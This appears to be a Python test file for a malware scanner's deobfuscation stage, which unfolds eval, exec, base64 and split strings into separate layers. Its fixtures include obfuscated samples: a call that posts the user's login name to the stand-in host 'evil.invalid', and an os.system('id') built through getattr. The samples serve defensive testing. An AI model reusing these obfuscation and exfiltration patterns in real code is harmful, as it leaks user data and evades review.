"""Texts that a program runs or evaluates: read once, where they stand, and folded as layers of their own."""

import gc

from scanner.decode import PeelBudget, peel
from scanner.decode.fold import fold
from scanner.member import Layer, Member

URL = "https://evil.invalid/x"


def layers_of(source: str) -> dict[tuple[str, ...], bytes]:
    found = peel(Member(name="pkg/mod.py", data=source.encode()), PeelBudget())
    return {item.path: item.data for item in found if isinstance(item, Layer)}


def test_a_text_that_is_evaluated_is_folded_with_the_names_around_it() -> None:
    call = "__import__('requests').post(scheme + 'evil.invalid/x', data={'name': __import__('getpass').getuser()})"
    found = layers_of(
        f"import base64\nscheme = 'https://'\neval({call!r})\nexec(base64.b64decode('cHJpbnQoMSkgIyBhbmQgb24='))\n"
    )
    assert found["eval",] == call.encode()
    assert URL in found["eval", "folded"].decode()


def test_a_text_that_gives_a_text_leaves_no_layer_of_that_text_alone() -> None:
    found = layers_of(
        f"text = eval({'+'.join(repr(char) for char in URL * 3)!r})\nexec('import requests; requests.get(text)')\n"
    )
    assert ("eval", "folded") not in found


def test_what_is_evaluated_inside_an_evaluated_text_has_both_steps_in_its_path() -> None:
    inner = "print('a text that is long enough to be a layer of its own, since somebody evaluates it')"
    found = layers_of(
        f"import base64\nexec(base64.b64decode('cHJpbnQoMSkgIyBhbmQgb24='))\neval({f'eval({inner!r})'!r})\n"
    )
    assert found["eval", "eval"] == inner.encode()


def test_a_number_too_long_to_write_out_is_left_as_it_is() -> None:
    found = fold(b"import os\nx = eval('0005**9'[::-1])\ngetattr(os, 'sys' + 'tem')('id')\n", PeelBudget())
    assert found.emissions[-1].data == b"import os\nx = eval('9**5000')\nos.system('id')\n"


def test_only_a_function_with_a_yield_of_its_own_is_a_generator() -> None:
    found = fold(
        b"import requests\n"
        b"def parts(): yield 'https://'\n"
        b"def part(): return 'https://'\n"
        b"requests.get(part() + 'evil.invalid/x')\n"
        b"requests.post(parts() + 'evil.invalid/x')\n",
        PeelBudget(),
    )
    assert f"requests.get('{URL}')" in found.emissions[-1].data.decode()
    assert "requests.post(parts() + 'evil.invalid/x')" in found.emissions[-1].data.decode()


def test_a_program_leaves_nothing_that_holds_itself() -> None:
    program = """
class Key:
    table = [3, 5]
    def at(self, number):
        def inner():
            return self.table[number % 2]
        return inner()
keys = Key()
text = ""
for number in range(400):
    text += chr(97 ^ keys.at(number))
exec(text)
"""
    fold(program.encode(), PeelBudget())
    gc.collect()
    fold(program.encode(), PeelBudget())
    assert gc.collect() < 10
